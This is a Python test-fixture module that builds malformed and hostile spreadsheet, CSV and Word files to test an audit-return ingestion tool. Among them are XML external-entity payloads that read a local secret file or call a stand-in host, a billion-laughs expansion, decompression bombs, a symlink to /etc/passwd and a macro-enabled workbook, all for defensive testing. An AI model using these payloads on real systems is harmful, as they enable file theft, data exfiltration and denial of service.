"""Files with a fault, built afresh by the tests of what can go wrong.

A builder takes a folder and leaves in it what a person might have sent. Most are plain rows written in an odd way; the
hostile ones are good workbooks operated on, part by part. Every good row holds an invented child, worker and comment,
which must never be seen again.
"""

import csv
import functools
import gzip
import io
import os
import re
import struct
import threading
import time
import zipfile
from collections.abc import Callable, Iterable, Iterator
from contextlib import contextmanager
from datetime import datetime
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from typing import Any
from xml.sax.saxutils import escape

import xlsxwriter
from conftest import SMALL_FRAMEWORK
from word_forms import Xml, write_form
from word_forms import table as word_table

Builder = Callable[[Path], object]
Rows = list[list[Any]]

CHILD, WORKER, COMMENT = "Quillon Vantongeren", "Ottiwell Brackspear", "built a marzipan lighthouse with grandad"
HOST, SECRET = "canary.invalid", "the combination of the strongroom is swordfish"
CANARIES = ("Quillon", "Vantongeren", "Ottiwell", "Brackspear", "marzipan lighthouse", HOST, "swordfish", "root:x:")

FRAMEWORK = (
    SMALL_FRAMEWORK.replace('["Audit ID"]', '["Audit ID", "Audit reference"]')
    .replace("[columns]", '[columns]\nchild = ["Child"]\nworker = ["Worker"]\nworked_well = ["What worked well"]')
    .replace('"RI", ', '"RI", "RI – not yet “Good”, £’s", ')
)

HEADER = ["Audit ID", "Date", "Team", "Child", "Worker", "Spotting", "Responding", "Plan", "What worked well"]
GRADE, PLAN = HEADER.index("Spotting"), HEADER.index("Plan")


def audit(identity: int | str, **changes: Any) -> list[Any]:
    """A good row; changes are by header, with an underscore for a space."""
    given = identity if isinstance(identity, str) else f"A{identity}"
    row = [given, "01/04/2025", "North", f"{CHILD} of {given}", WORKER, "Good", "RI", "Inadequate", COMMENT]
    for header, value in changes.items():
        row[HEADER.index(header.replace("_", " "))] = value
    return row


def audits(count: int = 40, **changes: Any) -> Rows:
    """Good rows, so many that a rejected one or two are within the limit of 5%."""
    return [audit(number, **changes) for number in range(1, count + 1)]


def with_last(*rows: list[Any], count: int = 40) -> Rows:
    """Good rows and then others, the first of which is row 42."""
    return [HEADER, *audits(count), *rows]


GOOD = with_last()


# ---------------------------------------------------------------------------------------------------- plain files


def together(*builders: Builder) -> Builder:
    def build(folder: Path) -> None:
        for builder in builders:
            builder(folder)

    return build


def nothing(folder: Path) -> None:
    """What there is to see happens while the command runs."""


def raw_file(name: str, data: bytes = b"") -> Builder:
    return lambda folder: (folder / name).write_bytes(data)


def text_of(rows: Rows, delimiter: str = ",") -> str:
    written = io.StringIO()
    csv.writer(written, delimiter=delimiter, lineterminator="\n").writerows(rows)
    return written.getvalue()


def text(rows: Rows = GOOD, *, name: str = "a.csv", delimiter: str = ",", encoding: str = "utf-8") -> Builder:
    return raw_file(name, text_of(rows, delimiter).encode(encoding))


def utf_16_with_mark(rows: Rows, order: str) -> Builder:
    """What a spreadsheet program saves as "Unicode text"."""
    return raw_file("a.csv", ("\ufeff" + text_of(rows, "\t")).encode(f"utf-16-{order}"))


def replaced(changes: dict[str, bytes], rows: Rows = GOOD) -> Builder:
    """Good rows as text, with some places, each of which must be there, replaced by other bytes."""
    data = text_of(rows).encode()
    for old, new in changes.items():
        data = swap(old.encode(), new)(data)
    return raw_file("a.csv", data)


def comma_after_every_row(folder: Path) -> None:
    """Every row but the header has a field more, with nothing in it."""
    header, *lines = text_of(GOOD).splitlines()
    (folder / "a.csv").write_text("\n".join([header, *(line + "," for line in lines), ""]), encoding="utf-8")


def too_many_rejected(folder: Path) -> None:
    """Three audits of forty-three have no date, which is more than 5% of them."""
    text(with_last(*(audit(number, Date="soon") for number in (91, 92, 93))))(folder)


def compressed_text(folder: Path) -> None:
    """A small file that would be a large one."""
    with gzip.open(folder / "a.csv.gz", "wb") as file:
        file.write(text_of(GOOD).encode() * 3000)


# ------------------------------------------------------------------------------------------------------ workbooks

SHEET, STRINGS, BOOK = "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "xl/workbook.xml"
Arrange = Callable[[xlsxwriter.Workbook], object]
Change = Callable[[bytes], bytes | Iterable[bytes]]


def workbook(
    *sheets: Rows,
    name: str = "a.xlsx",
    titles: Iterable[str] = ("April", "May"),
    arrange: Arrange = lambda book: None,
    **options: Any,
) -> Builder:
    """Good rows, or others, as a workbook; `arrange` hides, formats and merges afterwards."""

    def build(folder: Path) -> None:
        plain = {"strings_to_formulas": False, "strings_to_urls": False, "in_memory": True}
        with xlsxwriter.Workbook(folder / name, plain | options) as book:
            for title, rows in zip(titles, sheets or (GOOD,), strict=False):
                sheet = book.add_worksheet(title)
                for number, row in enumerate(rows):
                    sheet.write_row(number, 0, row)
            arrange(book)

    return build


def rewrite(path: Path, changes: dict[str, Change | None]) -> None:
    """Change, add (a part not there is empty) or leave out parts of a workbook."""
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name in parts | changes:
            change, data = changes.get(name, lambda data: data), parts.get(name, b"")
            if change is None:
                continue
            new = change(data)
            with archive.open(name, "w", force_zip64=True) as part:
                for chunk in [new] if isinstance(new, bytes) else new:
                    part.write(chunk)


def swap(old: bytes, new: bytes) -> Change:
    """A change of one place that must be there."""

    def change(data: bytes) -> bytes:
        assert old in data
        return data.replace(old, new, 1)

    return change


def operated(operate: Callable[[Path], object], build: Builder | None = None) -> Builder:
    """A good workbook after an operation; also a decorator of the operation."""

    @functools.wraps(operate)
    def operated_workbook(folder: Path) -> None:
        (build or workbook())(folder)
        operate(folder / "a.xlsx")

    return operated_workbook


@operated
def cut_in_half(path: Path) -> None:
    """The copying stopped half-way."""
    path.write_bytes(path.read_bytes()[: path.stat().st_size // 2])


@operated
def one_byte_flipped(path: Path) -> None:
    """A byte in the middle of the compressed first sheet."""
    with zipfile.ZipFile(path) as archive:
        sheet = archive.getinfo(SHEET)
    data = bytearray(path.read_bytes())
    name, extra = struct.unpack_from("<HH", data, sheet.header_offset + 26)
    data[sheet.header_offset + 30 + name + extra + sheet.compress_size // 2] ^= 1
    path.write_bytes(data)


@operated
def one_grade_flipped(path: Path) -> None:
    """A byte that leaves sound XML and turns a grade into the one beside it; only the checksum tells."""
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    data, start = path.read_bytes(), parts[SHEET].index(b'<c r="F2" t="s"><v>')
    at = path.read_bytes().index(parts[SHEET]) + parts[SHEET].index(b"</v>", start) - 1
    path.write_bytes(data[:at] + bytes([data[at] ^ 1]) + data[at + 1 :])


def with_macros(name: str) -> Builder:
    """A workbook that brings a program along."""

    def build(folder: Path) -> None:
        workbook()(folder)
        kind = b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
        with_macro = b"application/vnd.ms-excel.sheet.macroEnabled.main+xml"
        program = compound_file({"VBA": b"Attribute VB_Name"})
        rewrite(
            folder / "a.xlsx",
            {"[Content_Types].xml": swap(kind, with_macro), "xl/vbaProject.bin": lambda _: program},
        )
        (folder / "a.xlsx").rename(folder / name)

    return build


@operated
def cell_at_the_last_corner(path: Path) -> None:
    """One cell where the largest possible sheet ends: a parser that makes room for all before it dies."""
    corner = b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
    rewrite(path, {SHEET: swap(b"</sheetData>", corner)})


@operated
def cell_in_the_last_row(path: Path) -> None:
    """A cell that leaves out its address, and so stands wherever its row says that it is."""
    rewrite(path, {SHEET: swap(b"</sheetData>", b'<row r="1048576"><c><v>1</v></c></row></sheetData>')})


def too_many_rows(cell: str) -> Builder:
    """Half a million rows in a megabyte or two, each of one cell."""

    def rows(xml: bytes) -> Iterator[bytes]:
        before, after = xml.split(b"</sheetData>")
        yield before
        for first in range(len(GOOD) + 1, 500_001, 10_000):
            numbers = range(first, min(first + 10_000, 500_001))
            yield "".join(f'<row r="{n}">{cell.format(row=n)}</row>' for n in numbers).encode()
        yield b"</sheetData>" + after

    return operated(lambda path: rewrite(path, {SHEET: rows}))


@operated
def too_many_columns(path: Path) -> None:
    """A row of two thousand cells."""
    names = [xlsxwriter.utility.xl_col_to_name(n).encode() for n in range(2000)]
    row = b'<row r="60">%b</row></sheetData>' % b"".join(b'<c r="%b60"><v>1</v></c>' % name for name in names)
    rewrite(path, {SHEET: swap(b"</sheetData>", row)})


@operated
def one_gigantic_string(path: Path) -> None:
    """A comment of 300 MB in less than 300 KB."""

    def strings(xml: bytes) -> Iterator[bytes]:
        before, after = xml.split(COMMENT.encode())
        yield before
        for _ in range(300):
            yield b"A" * 1_000_000
        yield after

    rewrite(path, {STRINGS: strings})


def gigantic_string_said_to_be_small(folder: Path) -> None:
    """The same, in an archive that gives its size as 5,000 bytes."""
    one_gigantic_string(folder)
    path = folder / "a.xlsx"
    with zipfile.ZipFile(path) as archive:
        size = struct.pack("<I", archive.getinfo(STRINGS).file_size)
    data = path.read_bytes()
    assert size in data
    path.write_bytes(data.replace(size, struct.pack("<I", 5000)))


def with_entity(part: str, declaration: str, *, encoding: str = "utf-8") -> Builder:
    """A workbook, a part of which declares an entity and speaks of it in place of the first team."""

    def declare(xml: bytes) -> bytes:
        head, body = xml.decode().split("?>", 1)
        root = body.split("<", 1)[1].split(" ")[0].split(">")[0]
        body = body.replace("North", "&leak;", 1)  # among the shared strings, or else in the sheet itself
        body = re.sub(r'<c r="C2" t="s"><v>\d+</v>', '<c r="C2" t="str"><v>&leak;</v>', body)
        whole = f"{head}?>\n<!DOCTYPE {root} {declaration}>{body}"
        return whole.replace("UTF-8", encoding.upper(), 1).encode(encoding)

    return operated(lambda path: rewrite(path, {part: declare}))


def entity_of_a_file_nearby(folder: Path) -> None:
    """An entity that stands for a file beside the folder of returns."""
    secret = folder.parent / "secret.txt"
    secret.write_text(SECRET, encoding="utf-8")
    with_entity(STRINGS, f'[<!ENTITY leak SYSTEM "{secret.as_uri()}">]')(folder)


ABROAD = f'[<!ENTITY leak SYSTEM "http://{HOST}/leak">]'
BILLION_LAUGHS = (
    '[<!ENTITY laugh0 "ha">'
    + "".join(f'<!ENTITY laugh{n} "{f"&laugh{n - 1};" * 10}">' for n in range(1, 10))
    + '<!ENTITY leak "&laugh9;">]'
)


@contextmanager
def listening(folder: Path) -> Iterator[list[str]]:
    """A server on this machine that a workbook wants a declaration from; gives the requests it heard."""
    heard: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            heard.append(self.path)
            self.send_error(404)

        def log_message(self, *_: Any) -> None:
            pass

    with HTTPServer(("127.0.0.1", 0), Handler) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        with_entity(STRINGS, f'SYSTEM "http://127.0.0.1:{server.server_port}/evil.dtd"')(folder)
        try:
            yield heard
        finally:
            server.shutdown()
            thread.join()


def with_part(name: str) -> Builder:
    """A workbook with a part that would be unpacked somewhere else."""
    return operated(lambda path: rewrite(path, {name: lambda _: b"evil"}))


def without_part(name: str) -> Builder:
    return operated(lambda path: rewrite(path, {name: None}))


def in_sheet(old: bytes, new: bytes, build: Builder | None = None) -> Builder:
    """A workbook with one place of its first sheet's XML changed."""
    return operated(lambda path: rewrite(path, {SHEET: swap(old, new)}), build)


Write = Callable[[xlsxwriter.Workbook, Any, int, int], object]


def cell(row: int, column: int, write: Write, rows: Rows = GOOD) -> Builder:
    """A workbook with one cell, in a row as a person counts, written in another way."""
    return workbook(rows, arrange=lambda book: write(book, book.worksheets()[0], row - 1, column))


def formula(value: Any) -> Write:
    """A formula with the value that was calculated last."""
    return lambda book, sheet, row, column: sheet.write_formula(row, column, '=VLOOKUP("x",A1:A2,1)', value=value)


def uncalculated(row: int, column: int, rows: Rows = GOOD, *, left: bytes = b"") -> Builder:
    """A formula as a program leaves it that writes formulas and calculates nothing."""
    return in_sheet(b"<v>987654</v>", left, cell(row, column, formula(987654), rows))


def long_cell_in_a_workbook(folder: Path) -> None:
    """A comment longer than the programs that make workbooks can write."""
    rows = with_last(audit(99, What_worked_well="to be longer"))
    operated(lambda path: rewrite(path, {STRINGS: swap(b"to be longer", b"A" * 200_000)}), workbook(rows))(folder)


def number(value: float, form: str = "General") -> Write:
    """A number shown in a form."""
    return lambda book, sheet, row, column: sheet.write_number(
        row, column, value, book.add_format({"num_format": form})
    )


def dates_as(write: Write, **options: Any) -> Builder:
    """A workbook, every date of which is written in another way."""

    def arrange(book: xlsxwriter.Workbook) -> None:
        for row in range(1, len(GOOD)):
            write(book, book.worksheets()[0], row, HEADER.index("Date"))

    return workbook(arrange=arrange, **options)


def first_of_april(book: xlsxwriter.Workbook, sheet: Any, row: int, column: int) -> None:
    """A true date, counted from whatever day the workbook counts from."""
    sheet.write_datetime(row, column, datetime(2025, 4, 1), book.add_format({"num_format": "dd/mm/yyyy"}))


def merge_headers(book: xlsxwriter.Workbook) -> None:
    """Two rows of headers, as people draw them: the domains above, each over its categories."""
    sheet, centred = book.worksheets()[0], book.add_format({"align": "center"})
    sheet.merge_range(0, GRADE, 0, GRADE + 1, "Risk", centred)
    for column, header in enumerate(HEADER):
        if not GRADE <= column < PLAN:
            sheet.merge_range(0, column, 1, column, header, centred)


def hide_first(book: xlsxwriter.Workbook) -> None:
    """The first sheet is hidden, and the second is shown."""
    hidden, shown = book.worksheets()
    shown.activate()
    shown.set_first_sheet()
    hidden.hide()


def hide_first_well(book: xlsxwriter.Workbook) -> None:
    """The first sheet is hidden so that no menu shows it."""
    hide_first(book)
    book.worksheets()[0].very_hidden()


def hide_rows(book: xlsxwriter.Workbook) -> None:
    """Two rows hidden by hand, and one by a filter."""
    sheet = book.worksheets()[0]
    sheet.autofilter(0, 0, len(GOOD) - 1, len(HEADER) - 1)
    sheet.filter_column(0, "x != A30")
    for row in (5, 6, 30):
        sheet.set_row(row, None, None, {"hidden": True})


def format_rows_from(first: int) -> Arrange:
    """3,000 rows with borders and nothing in them."""

    def arrange(book: xlsxwriter.Workbook) -> None:
        sheet, border = book.worksheets()[0], book.add_format({"border": 1})
        for row in range(first - 1, first + 2999):
            for column in range(len(HEADER)):
                sheet.write_blank(row, column, None, border)

    return arrange


def write_shares(book: xlsxwriter.Workbook) -> None:
    """85% in four ways and 100% as a whole number; beside each, 5% as a spreadsheet keeps it."""
    sheet, percent = book.worksheets()[0], book.add_format({"num_format": "0%"})
    for row in range(1, 5):
        sheet.write_number(row, 3, 0.05, percent)
    sheet.write_number(1, 2, 0.85, percent)
    sheet.write_string(2, 2, "85%")
    sheet.write_number(3, 2, 85)
    sheet.write_number(4, 2, 1, percent)


SHARES = [["Domain", "Quarter", "Good", "Inadequate"]]
SHARES += [[domain, quarter] for quarter in ("2025-Q1", "2025-Q2") for domain in ("Risk", "Plans")]


# ----------------------------------------------------------------------------------- other kinds of office document


def open_document(
    rows: Iterable[str], *, settings: str = "", declaration: str = "", manifest: str = "", name: str = "a.ods"
) -> Builder:
    """A hand-written OpenDocument spreadsheet of rows that are XML already."""
    spaces = {"office": "office", "table": "table", "text": "text", "style": "style"}
    declared = " ".join(
        f'xmlns:{short}="urn:oasis:names:tc:opendocument:xmlns:{long}:1.0"' for short, long in spaces.items()
    )
    content = (
        f'<?xml version="1.0" encoding="UTF-8"?>{declaration}<office:document-content {declared} office:version="1.2">'
        f"<office:automatic-styles>{settings}</office:automatic-styles><office:body><office:spreadsheet>"
        f"{''.join(rows)}</office:spreadsheet></office:body></office:document-content>"
    )
    kind = "application/vnd.oasis.opendocument.spreadsheet"
    entries = (
        f'<?xml version="1.0" encoding="UTF-8"?><manifest:manifest manifest:version="1.2" '
        f'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
        f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{kind}"/>'
        f'<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml">{manifest}'
        "</manifest:file-entry></manifest:manifest>"
    )

    def build(folder: Path) -> None:
        with zipfile.ZipFile(folder / name, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("mimetype", kind, zipfile.ZIP_STORED)
            archive.writestr("META-INF/manifest.xml", entries)
            archive.writestr("content.xml", content)

    return build


def table(rows: Iterable[str], title: str = "April", attributes: str = "") -> str:
    """A sheet of an OpenDocument spreadsheet."""
    return f'<table:table table:name="{title}" {attributes}>{"".join(rows)}</table:table>'


def table_row(cells: Iterable[str], attributes: str = "", cell: str = "") -> str:
    """A row of an OpenDocument spreadsheet, each cell of it text."""
    written = (
        f'<table:table-cell office:value-type="string" {cell}><text:p>{escape(each)}</text:p></table:table-cell>'
        for each in cells
    )
    return f"<table:table-row {attributes}>{''.join(written)}</table:table-row>"


GOOD_TABLE = [table_row(row) for row in GOOD]
BLANK_TO_THE_END = (
    '<table:table-row table:number-rows-repeated="1048535"><table:table-cell table:number-columns-repeated="16384"/>'
    "</table:table-row>"
)
REPEATED_TO_THE_END = table_row(["x"], 'table:number-rows-repeated="1048535"', 'table:number-columns-repeated="16384"')
HIDDEN_STYLE = '<style:style style:name="hidden" style:family="table"><style:table-properties table:display="false"/></style:style>'
ENCRYPTION = '<manifest:encryption-data manifest:checksum-type="SHA1/1K" manifest:checksum="AAAA"/>'
ENTITY_ROW = "<table:table-row><table:table-cell><text:p>&leak;</text:p></table:table-cell></table:table-row>"
HIDDEN = dict.fromkeys([5, 6], 'table:visibility="collapse"') | {30: 'table:visibility="filter"'}
TABLE_WITH_HIDDEN_ROWS = [table_row(row, HIDDEN.get(at, "")) for at, row in enumerate(GOOD)]


def hidden_table(rows: Rows) -> str:
    return table(map(table_row, rows), attributes='table:style-name="hidden"')


def compound_file(streams: dict[str, bytes]) -> bytes:
    """The container of encrypted workbooks and of those of before 2007, with streams of at least 4,096 bytes."""
    free, end, fat_mark = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD
    padded = {name: data.ljust(4096, b"\0") + b"\0" * (-max(len(data), 4096) % 512) for name, data in streams.items()}
    fat, body, places = [fat_mark, end], b"", {}
    for name, data in padded.items():
        places[name], sectors = len(fat), len(data) // 512
        fat += [*range(len(fat) + 1, len(fat) + sectors), end]
        body += data
    assert len(fat) <= 128 and len(streams) <= 3, "one sector each for the table of sectors and the folder"

    def entry(name: str, kind: int, left: int, child: int, start: int, size: int) -> bytes:
        named = name.encode("utf-16-le")
        length = len(named) + 2 if name else 0
        return struct.pack("<64sHBBIII36xIQ", named, length, kind, 1, left, free, child, start, size)

    names = sorted(padded, key=lambda name: (len(name), name))
    entries = [entry("Root Entry", 5, free, len(names), end, 0)]
    for number, name in enumerate(names, 1):
        entries.append(entry(name, 2, number - 1 if number > 1 else free, free, places[name], len(padded[name])))
    entries += [entry("", 0, free, free, 0, 0)] * (4 - len(entries))
    head = struct.pack("<8s16xHHHHH6xIIIIIIIII", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", 0x3E, 3, 0xFFFE, 9, 6, 0, 1, 1, 0, 4096, end, 0, end, 0)  # fmt: skip
    sectors = struct.pack("<109I", 0, *[free] * 108)
    table_of_sectors = struct.pack("<128I", *fat, *[free] * (128 - len(fat)))
    return head + sectors + table_of_sectors + b"".join(entries) + body


ENCRYPTED_WORKBOOK = compound_file(
    {"EncryptionInfo": b"\x04\0\x04\0\x40\0\0\0", "EncryptedPackage": bytes(range(256)) * 36}
)
LEGACY_WORKBOOK = compound_file({"Workbook": b"\x09\x08\x10\0\0\x06\x05\0"})


# --------------------------------------------------------------------------------------------- things in the folder


def link_to_passwords(folder: Path) -> None:
    """A link that leads out of the folder."""
    (folder / "link.csv").symlink_to("/etc/passwd")


def pipe(folder: Path) -> None:
    """A pipe that nobody writes into: to open it is to wait for ever."""
    os.mkfifo(folder / "pipe.csv")


def folder_named_like_a_file(folder: Path) -> None:
    (folder / "a.csv").mkdir()


def left_by_programs(folder: Path) -> None:
    """What office programs and file managers leave behind."""
    for name in LEFT_BY_PROGRAMS:
        (folder / name).write_bytes(b"\0" + name.encode())


LEFT_BY_PROGRAMS = ("~$return.xlsx", ".DS_Store", "Thumbs.db", "desktop.ini")


@contextmanager
def still_being_written(folder: Path) -> Iterator[list[str]]:
    """A file large enough that it grows while it is read."""
    done, path = threading.Event(), folder / "a.csv"
    path.write_text(text_of([HEADER, *audits(100_000)]), encoding="utf-8")

    def append() -> None:
        with path.open("a", encoding="utf-8") as file:
            for number in range(100_001, 10_000_000):
                if done.is_set():
                    return
                file.write(text_of([audit(number)]))
                file.flush()
                time.sleep(0.0002)

    thread = threading.Thread(target=append)
    thread.start()
    try:
        yield []
    finally:
        done.set()
        thread.join()
        path.unlink()


# --------------------------------------------------------------------------------------------------------- Word forms


def word_form(
    *changed: str, name: str = "a.docx", declaration: str = "", beside: dict[str, str | bytes] | None = None
) -> Builder:
    """A good audit as a filled form, with blocks besides."""
    labels = zip(HEADER, audit(1), strict=True)
    prologue = f"<!DOCTYPE w:document {declaration}>" if declaration else ""
    blocks = (word_table(*((label, str(answer)) for label, answer in labels)), *changed)
    return lambda folder: write_form(folder / name, *blocks, beside=beside, prologue=prologue)


CHANGE = '<w:p><w:{0} w:id="1" w:author="A"><w:r><w:t>x</w:t></w:r></w:{0}></w:p>'
INSERTED, MOVED = Xml(CHANGE.format("ins")), Xml(CHANGE.format("moveTo"))
LEAK = Xml("<w:p><w:r><w:t>&leak;</w:t></w:r></w:p>")


def form_cut_in_half(folder: Path) -> None:
    word_form()(folder)
    path = folder / "a.docx"
    path.write_bytes(path.read_bytes()[: path.stat().st_size // 2])


def form_with_one_byte_flipped(folder: Path) -> None:
    word_form()(folder)
    path = folder / "a.docx"
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as archive:
        part = archive.getinfo("word/document.xml")
    data[part.header_offset + 30 + len(part.filename) + part.compress_size // 2] ^= 1
    path.write_bytes(data)


def workbook_renamed_form(folder: Path) -> None:
    workbook()(folder)
    (folder / "a.xlsx").rename(folder / "a.docx")
